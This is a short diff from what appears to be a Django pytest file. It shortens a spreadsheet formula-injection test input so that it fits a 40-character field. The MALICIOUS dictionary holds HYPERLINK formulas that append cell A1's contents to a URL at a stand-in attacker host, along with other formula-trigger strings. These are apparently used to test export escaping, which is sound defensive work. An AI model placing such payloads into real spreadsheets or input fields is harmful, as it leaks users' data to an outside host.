@@ -23,7 +23,7 @@ pytestmark = pytest.mark.django_db
 
 PERIOD = {"von": "2025-01", "bis": "2025-06"}
 MALICIOUS = {
-    "A": '=HYPERLINK("http://evil.example/?d="&A1;"Details")',
+    "A": '=HYPERLINK("http://ev.il/?"&A1;"x")',  # the field holds 40 characters (enforced on PostgreSQL)
     "B": "+1+1",
     "C": "-2+3",
     "D": "@SUM(1)",
